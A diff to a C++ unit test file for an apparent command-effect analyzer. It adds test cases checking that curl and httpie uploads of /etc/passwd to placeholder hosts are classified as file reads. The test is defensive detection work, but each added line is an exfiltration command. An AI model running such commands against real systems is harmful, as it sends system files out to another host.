@@ -92,6 +92,18 @@ BOOST_AUTO_TEST_CASE(uploads_are_sent) {
     check("scp u@h:/tmp/x .", "scp", effect_kind::fetches, {"u@h:/tmp/x"});
 }
 
+BOOST_AUTO_TEST_CASE(file_that_a_client_is_told_to_send_is_read) {
+    check("curl -F f=@/etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
+    check("curl -F 'f=@/etc/passwd;type=text/plain' http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
+    check("curl -F 'n=</etc/passwd' http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
+    check("cd /etc; curl -d @passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
+    check("curl --data-binary @/etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
+    check("curl --data-urlencode n@/etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
+    check("curl --upload-file /etc/passwd http://h/", "curl", effect_kind::reads, {"/etc/passwd"});
+    check("http POST h.example n@/etc/passwd", "http", effect_kind::reads, {"/etc/passwd"});
+    check("curl -d a=@b -d me@h.example -F 'n=a<b' http://h/", "curl", effect_kind::reads, {});
+}
+
 BOOST_AUTO_TEST_CASE(clients_of_any_kind_fetch_send_and_connect) {
     check("/tool fetch url=http://h.example/x dst-path=y", "tool", effect_kind::fetches, {"http://h.example/x"});
     check("/tool fetch url=http://h.example/x dst-path=y", "tool", effect_kind::writes, {"y"});
